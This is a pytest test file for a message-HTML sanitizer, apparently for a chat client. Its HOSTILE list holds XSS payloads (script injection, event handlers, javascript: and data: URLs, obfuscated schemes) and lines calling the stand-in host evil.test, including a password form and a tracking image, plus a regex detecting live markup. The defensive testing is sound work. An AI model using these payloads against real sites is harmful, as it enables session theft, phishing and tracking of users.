"""HTML of messages: nothing in it does harm, whoever shows it."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from openucwa.wire.markup import clean, plain


@pytest.mark.parametrize(
    "html",
    [
        "Hello",
        "<b>bold</b> <i>italic</i> <u>underlined</u>",
        "<p>one</p><p>two</p>",
        "<ul><li>one</li></ul>",
        "one<br>two",
        "&lt;script&gt; 1 &amp; 2",
    ],
)
def test_what_does_no_harm_stays(html):
    assert html == clean(html)


@pytest.mark.parametrize(
    "target",
    [
        "http://contoso.test/a?b=1#c",
        "https://contoso.test/",
        "mailto:lene@contoso.test",
        "sip:lene@contoso.test",
        "tel:+15550100",
    ],
)
def test_links_that_lead_somewhere_stay(target):
    cleaned = clean(f'<a href="{target}" target="_top" onclick="x()">here</a>')

    assert f'href="{target}"' in cleaned
    assert 'rel="noopener noreferrer"' in cleaned
    assert not re.search("onclick|target", cleaned)


HOSTILE = [
    ("<script>steal()</script>", ""),
    ("<SCRIPT SRC=http://evil.test/x.js></SCRIPT>", ""),
    ("<scr<script>ipt>steal()</scr</script>ipt>", None),
    ("<img src=x onerror=steal()>", None),
    ("<b onclick='steal()'>x</b>", "<b>x</b>"),
    ("<p onmouseover=steal()>x", "<p>x</p>"),
    ("<a href='javascript:steal()'>x</a>", None),
    ("<a href='JaVaScRiPt:steal()'>x</a>", None),
    ("<a href=' java\nscript:steal()'>x</a>", None),
    ("<a href='&#106;avascript:steal()'>x</a>", None),
    ("<a href='data:text/html,<script>steal()</script>'>x</a>", None),
    ("<a href='vbscript:steal()'>x</a>", None),
    ("<style>*{background:url(http://evil.test)}</style>x", "x"),
    ("<b style='background:url(http://evil.test)'>x</b>", "<b>x</b>"),
    ("<iframe src='javascript:steal()'></iframe>", ""),
    ("<object data=x></object><embed src=x>", ""),
    ("<form action=http://evil.test><input name=password></form>", ""),
    ("<svg onload=steal()><script>steal()</script></svg>", ""),
    ("<svg><a xlink:href='javascript:steal()'>x</a></svg>", None),
    ("<math><mtext><table><mglyph><style><!--</style><img onerror=steal()>", None),
    ("<meta http-equiv=refresh content='0;url=http://evil.test'>", ""),
    ("<base href=http://evil.test>", ""),
    ("<link rel=stylesheet href=http://evil.test>", ""),
    ("<!-- <script>steal()</script> -->x", "x"),
    ("<![CDATA[<script>steal()</script>]]>", None),
    ("<b id=x class=y name=z>x</b>", "<b>x</b>"),
    ("<b>not closed <i>at all", "<b>not closed <i>at all</i></b>"),
    ("</div></b>x", "x"),
    ("<div><scr\0ipt>steal()</script>", None),
    ("<b", ""),
]
LIVE = re.compile(
    r"<\s*(?:script|style|iframe|object|embed|form|input|svg|math|meta|base|link)\b"
    r"|<[^>]*\s(?:on\w+|style|src|class|id)\s*="
    r"|href=[\"']?\s*(?:java|vb|data)",
    re.IGNORECASE,
)


@pytest.mark.parametrize(("html", "left"), HOSTILE)
def test_whatever_could_do_harm_goes(html, left):
    cleaned = clean(html)

    assert not re.search(r"<[^>]*(?:\son\w+\s*=|steal)", cleaned), cleaned
    assert not LIVE.search(re.sub(r"<img[^>]*>", "", cleaned)), cleaned
    assert left in (None, cleaned)


@given(st.lists(st.sampled_from([html for html, _ in HOSTILE]) | st.text(max_size=5), max_size=5))
def test_nor_does_any_mixture_and_what_is_clean_stays(pieces):
    cleaned = clean("".join(pieces))

    assert not LIVE.search(re.sub(r"<img[^>]*>", "", cleaned)), cleaned
    assert cleaned == clean(cleaned)


def test_nobody_learns_that_a_picture_was_looked_at():
    """A message that is shown must not call home."""
    assert "evil" not in clean("<img src='https://evil.test/who?lene'>")


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("Hello", "Hello"),
        ("<b>Hello</b> there", "Hello there"),
        ("<p>one</p><p>two</p>", "one\ntwo"),
        ("<div>one</div><div>two</div>", "one\ntwo"),
        ("one<br>two<BR/>three<br class='x' />four", "one\ntwo\nthree\nfour"),
        ("<ul><li>one</li><li>two</li></ul>", "one\ntwo"),
        ("1 &lt; 2 &amp; 3 &#x1f600;", "1 < 2 & 3 \U0001f600"),
        ("&amp;lt;", "&lt;"),
        ("<script>steal()</script>x", "x"),
        ("a < b", "a < b"),
        ("", ""),
    ],
)
def test_the_text_of_html(html, text):
    assert text == plain(html)
